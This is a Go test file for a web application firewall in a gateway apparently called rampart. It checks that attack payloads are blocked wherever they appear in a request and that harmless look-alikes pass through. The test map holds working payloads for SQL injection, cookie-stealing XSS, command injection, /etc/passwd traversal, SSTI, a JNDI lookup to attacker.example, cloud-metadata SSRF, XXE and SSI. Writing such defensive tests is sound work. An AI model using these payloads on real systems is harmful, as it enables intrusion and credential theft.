package gateway

import (
	"bytes"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"rampart/internal/config"
	"rampart/internal/events"
	"rampart/internal/waf"
)

// wafRequest is one request placed somewhere in the HTTP message.
type wafRequest struct {
	where  string
	method string
	path   string // raw, already escaped
	header map[string]string
	ctype  string
	body   []byte
}

// place puts payload in the request at where.
func place(t *testing.T, where, payload string) wafRequest {
	t.Helper()
	q := url.QueryEscape(payload)
	switch where {
	case "query":
		return wafRequest{where: where, method: "GET", path: "/search?q=" + q}
	case "path":
		return wafRequest{where: where, method: "GET", path: "/files/" + url.PathEscape(payload)}
	case "header":
		return wafRequest{where: where, method: "GET", path: "/", header: map[string]string{"Referer": payload}}
	case "cookie":
		return wafRequest{where: where, method: "GET", path: "/", header: map[string]string{"Cookie": "pref=" + q}}
	case "form":
		return wafRequest{where: where, method: "POST", path: "/comment", ctype: "application/x-www-form-urlencoded",
			body: []byte("name=alice&comment=" + q)}
	case "json":
		b := fmt.Sprintf(`{"user":{"name":"alice","bio":%q},"tags":["a","b"]}`, payload)
		return wafRequest{where: where, method: "POST", path: "/api/profile", ctype: "application/json", body: []byte(b)}
	case "xml":
		var esc bytes.Buffer
		_ = xmlEscape(&esc, payload)
		b := "<?xml version=\"1.0\"?><order><item id=\"1\">" + esc.String() + "</item></order>"
		return wafRequest{where: where, method: "POST", path: "/api/order", ctype: "application/xml", body: []byte(b)}
	case "multipart":
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		_ = mw.WriteField("title", "holiday")
		_ = mw.WriteField("description", payload)
		fw, _ := mw.CreateFormFile("photo", "beach.jpg")
		_, _ = fw.Write([]byte("\xff\xd8\xff\xe0 not really a jpeg"))
		_ = mw.Close()
		return wafRequest{where: where, method: "POST", path: "/upload", ctype: mw.FormDataContentType(), body: buf.Bytes()}
	}
	t.Fatalf("unknown place %q", where)
	return wafRequest{}
}

func xmlEscape(w io.Writer, s string) error {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	_, err := io.WriteString(w, r.Replace(s))
	return err
}

func send(t *testing.T, base string, wr wafRequest) *http.Response {
	t.Helper()
	var body io.Reader
	if wr.body != nil {
		body = bytes.NewReader(wr.body)
	}
	req, err := http.NewRequest(wr.method, base+wr.path, body)
	if err != nil {
		t.Fatalf("%s: %v", wr.where, err)
	}
	if wr.ctype != "" {
		req.Header.Set("Content-Type", wr.ctype)
	}
	for k, v := range wr.header {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", wr.method, wr.path, err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
	return resp
}

// TestWAFBlocksEveryClassEverywhere sends one attack of each class in each
// position and expects 403 with the upstream never reached.
func TestWAFBlocksEveryClassEverywhere(t *testing.T) {
	var hits atomic.Int64
	up := echoUpstream(t, &hits)
	h := start(t, baseYAML(up.URL, ""))
	attacks := map[string]string{
		"sqli":           "1' UNION SELECT username, password FROM users--",
		"xss":            `<img src=x onerror=alert(document.cookie)>`,
		"cmdi":           "127.0.0.1; cat /etc/passwd",
		"path-traversal": "../../../../etc/passwd",
		"ssti":           "{{ ''.__class__.__mro__[1].__subclasses__() }}",
		"jndi":           "${jndi:ldap://attacker.example/a}",
		"nosqli":         `{"$where": "sleep(5000)"}`,
		"ssrf":           "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"xxe":            `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
		"ldapi":          "*)(uid=*))(|(uid=*",
		"crlf":           "x\r\nSet-Cookie: admin=1",
		"ssi":            `<!--#exec cmd="cat /etc/passwd"-->`,
		"rfi":            "php://filter/convert.base64-encode/resource=index.php",
	}
	places := []string{"query", "path", "header", "cookie", "form", "json", "xml", "multipart"}
	for class, payload := range attacks {
		for _, where := range places {
			if class == "path-traversal" && where == "path" {
				continue // net/http cleans ../ in the client; tested raw below
			}
			if class == "crlf" && where == "header" {
				continue // net/http refuses CR and LF in a header value
			}
			before := hits.Load()
			resp := send(t, h.base, place(t, where, payload))
			if resp.StatusCode != http.StatusForbidden {
				t.Errorf("%s in %s: status %d, want 403", class, where, resp.StatusCode)
				continue
			}
			if resp.Header.Get("X-Request-Id") == "" {
				t.Errorf("%s in %s: 403 without X-Request-Id", class, where)
			}
			if hits.Load() != before {
				t.Errorf("%s in %s: the upstream was reached", class, where)
			}
		}
	}
	raw := rawRequest(t, h.srv.HTTPAddr.String(), "GET /static/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
	if !strings.HasPrefix(raw, "HTTP/1.1 403") {
		t.Errorf("encoded traversal in the raw path: %q", firstLine(raw))
	}
	e := h.waitEvent(t, events.WAFBlocked)
	if e.Details["rule"] == "" || e.Details["location"] == "" || e.RequestID == "" {
		t.Errorf("waf.blocked event lacks rule/location/request ID: %+v", e)
	}
}

func firstLine(s string) string {
	line, _, _ := strings.Cut(s, "\r\n")
	return line
}

// TestWAFPassesBenign sends look-alikes that must reach the upstream.
func TestWAFPassesBenign(t *testing.T) {
	up := echoUpstream(t, nil)
	h := start(t, baseYAML(up.URL, ""))
	for _, v := range []string{
		"O'Brien", "select a plan", "1 and 2", "Zoë O'Brien, 12 Select Street, Union City",
		"Tom & Jerry; R&D", "a < b and c > d", "see ../docs for details", "price: $5 (approx)",
		"I'd like to UNION my accounts; please SELECT the cheaper plan from the list.",
	} {
		for _, where := range []string{"query", "form", "json", "multipart"} {
			if resp := send(t, h.base, place(t, where, v)); resp.StatusCode != http.StatusOK {
				t.Errorf("benign %q in %s: status %d", v, where, resp.StatusCode)
			}
		}
	}
	order := `{"customer":"Zoë O'Brien","address":"12 Select Street, Union City","items":[{"sku":"LAMP-1","qty":1}],"note":"Leave it by the door -- thanks!"}`
	resp := send(t, h.base, wafRequest{where: "json", method: "POST", path: "/api/orders", ctype: "application/json", body: []byte(order)})
	if resp.StatusCode != http.StatusOK {
		t.Errorf("the Zoë O'Brien order: status %d", resp.StatusCode)
	}
}

func TestWAFDetectModePasses(t *testing.T) {
	var hits atomic.Int64
	up := echoUpstream(t, &hits)
	h := start(t, baseYAML(up.URL, "waf: {mode: detect}"))
	resp := send(t, h.base, place(t, "query", "1' OR '1'='1' --"))
	if resp.StatusCode != http.StatusOK || hits.Load() != 1 {
		t.Fatalf("detect mode: status %d, upstream hits %d; want 200 and 1", resp.StatusCode, hits.Load())
	}
	e := h.waitEvent(t, events.WAFDetected)
	if e.Details["class"] != "sqli" || e.Details["mode"] != "detect" {
		t.Errorf("waf.detected event: %+v", e.Details)
	}
}

func TestWAFExclusionAndCustomRule(t *testing.T) {
	up := echoUpstream(t, nil)
	extra := `waf:
  exclusions:
    - class: sqli
      location: "query:sql"
  rules:
    - id: no-debug
      target: "query:debug"
      operator: equals
      value: "true"
`
	h := start(t, baseYAML(up.URL, extra))
	payload := url.QueryEscape("SELECT name FROM users WHERE id = 1 OR 1=1")
	if resp := send(t, h.base, wafRequest{method: "GET", path: "/console?sql=" + payload}); resp.StatusCode != http.StatusOK {
		t.Errorf("excluded location: status %d, want 200", resp.StatusCode)
	}
	if resp := send(t, h.base, wafRequest{method: "GET", path: "/search?q=" + payload}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("same payload elsewhere: status %d, want 403", resp.StatusCode)
	}
	if resp := send(t, h.base, wafRequest{method: "GET", path: "/admin?debug=TRUE"}); resp.StatusCode != http.StatusForbidden {
		t.Errorf("custom rule: status %d, want 403", resp.StatusCode)
	}
	e := h.waitEvent(t, events.WAFBlocked)
	for e.Details["rule"] != "custom.no-debug" {
		e = h.waitEvent(t, events.WAFBlocked)
	}
	if resp := send(t, h.base, wafRequest{method: "GET", path: "/admin?debug=false"}); resp.StatusCode != http.StatusOK {
		t.Errorf("custom rule non-match: status %d, want 200", resp.StatusCode)
	}
}

func TestWAFBodyPolicies(t *testing.T) {
	var hits atomic.Int64
	up := echoUpstream(t, &hits)
	big := bytes.Repeat([]byte("a"), 4096)
	attackPastLimit := append(append([]byte("note="), big...), []byte(url.QueryEscape("' UNION SELECT password FROM users--"))...)

	t.Run("inspect_prefix", func(t *testing.T) {
		h := start(t, baseYAML(up.URL, "waf: {inspect_body_bytes: 2KiB}"))
		resp := send(t, h.base, wafRequest{method: "POST", path: "/n", ctype: "application/x-www-form-urlencoded", body: attackPastLimit})
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("status %d, want 200 (past the inspected prefix)", resp.StatusCode)
		}
		if got := resp.Header.Get("X-Got-Body-Len"); got != fmt.Sprint(len(attackPastLimit)) {
			t.Errorf("upstream got %s body bytes, want all %d", got, len(attackPastLimit))
		}
	})
	t.Run("refuse", func(t *testing.T) {
		h := start(t, baseYAML(up.URL, "waf: {inspect_body_bytes: 2KiB, oversize_body: refuse}"))
		before := hits.Load()
		resp := send(t, h.base, wafRequest{method: "POST", path: "/n", ctype: "application/x-www-form-urlencoded", body: attackPastLimit})
		if resp.StatusCode != http.StatusRequestEntityTooLarge || hits.Load() != before {
			t.Fatalf("status %d, upstream hits +%d; want 413 and none", resp.StatusCode, hits.Load()-before)
		}
	})
	t.Run("malformed", func(t *testing.T) {
		h := start(t, baseYAML(up.URL, ""))
		// Broken JSON is inspected as raw text: an attack in it is caught.
		resp := send(t, h.base, wafRequest{method: "POST", path: "/api", ctype: "application/json",
			body: []byte(`{"q": "1' UNION SELECT password FROM users--`)})
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("attack in broken JSON: status %d, want 403", resp.StatusCode)
		}
		// Broken but harmless JSON passes (the flag alone does not block).
		resp = send(t, h.base, wafRequest{method: "POST", path: "/api", ctype: "application/json", body: []byte(`{"name": "alice"`)})
		if resp.StatusCode != http.StatusOK {
			t.Errorf("harmless broken JSON: status %d, want 200", resp.StatusCode)
		}
	})
}

func TestWAFOff(t *testing.T) {
	up := echoUpstream(t, nil)
	h := start(t, baseYAML(up.URL, "waf: {mode: off}"))
	if resp := send(t, h.base, place(t, "query", "1' OR '1'='1' --")); resp.StatusCode != http.StatusOK {
		t.Errorf("waf off: status %d", resp.StatusCode)
	}
}

// TestWAFUploadsAndIntrospection: by default the content of an uploaded
// SVG is inspected (XXE) while a JPEG's is not, and a GraphQL introspection
// query is refused unless its rule is excluded.
func TestWAFUploadsAndIntrospection(t *testing.T) {
	if !slices.Equal(config.Default().WAF.FileTypes, waf.DefaultFileTypes) {
		t.Errorf("config default file_types %q, waf.DefaultFileTypes %q: keep them equal",
			config.Default().WAF.FileTypes, waf.DefaultFileTypes)
	}
	up := echoUpstream(t, nil)
	upload := func(name, ctype, content string) wafRequest {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		_ = mw.WriteField("title", "logo")
		hdr := textproto.MIMEHeader{}
		hdr.Set("Content-Disposition", `form-data; name="file"; filename="`+name+`"`)
		hdr.Set("Content-Type", ctype)
		fw, _ := mw.CreatePart(hdr)
		_, _ = fw.Write([]byte(content))
		_ = mw.Close()
		return wafRequest{where: "multipart", method: "POST", path: "/upload", ctype: mw.FormDataContentType(), body: buf.Bytes()}
	}
	xxe := `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`
	introspect := wafRequest{method: "POST", path: "/graphql", ctype: "application/json",
		body: []byte(`{"query":"query IntrospectionQuery { __schema { queryType { name } } }"}`)}
	plain := wafRequest{method: "POST", path: "/graphql", ctype: "application/json",
		body: []byte(`{"query":"{ user(id: 1) { name __typename } }"}`)}

	h := start(t, baseYAML(up.URL, ""))
	if resp := send(t, h.base, upload("logo.svg", "image/svg+xml", xxe)); resp.StatusCode != http.StatusForbidden {
		t.Errorf("svg upload with an external entity: status %d, want 403", resp.StatusCode)
	}
	clean := `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>`
	if resp := send(t, h.base, upload("logo.svg", "image/svg+xml", clean)); resp.StatusCode != http.StatusOK {
		t.Errorf("plain svg upload: status %d, want 200", resp.StatusCode)
	}
	if resp := send(t, h.base, upload("notes.bin", "application/octet-stream", xxe)); resp.StatusCode != http.StatusOK {
		t.Errorf("octet-stream upload (content not inspected by default): status %d, want 200", resp.StatusCode)
	}
	if resp := send(t, h.base, introspect); resp.StatusCode != http.StatusForbidden {
		t.Errorf("introspection query: status %d, want 403", resp.StatusCode)
	}
	if resp := send(t, h.base, plain); resp.StatusCode != http.StatusOK {
		t.Errorf("ordinary GraphQL query: status %d, want 200", resp.StatusCode)
	}

	h2 := start(t, baseYAML(up.URL, "waf:\n  file_types: []\n  exclusions:\n    - rule: protocol.graphql-introspection\n"))
	if resp := send(t, h2.base, introspect); resp.StatusCode != http.StatusOK {
		t.Errorf("introspection with its rule excluded: status %d, want 200", resp.StatusCode)
	}
	if resp := send(t, h2.base, upload("logo.svg", "image/svg+xml", xxe)); resp.StatusCode != http.StatusOK {
		t.Errorf("svg upload with file_types: []: status %d, want 200 (content not inspected)", resp.StatusCode)
	}
}
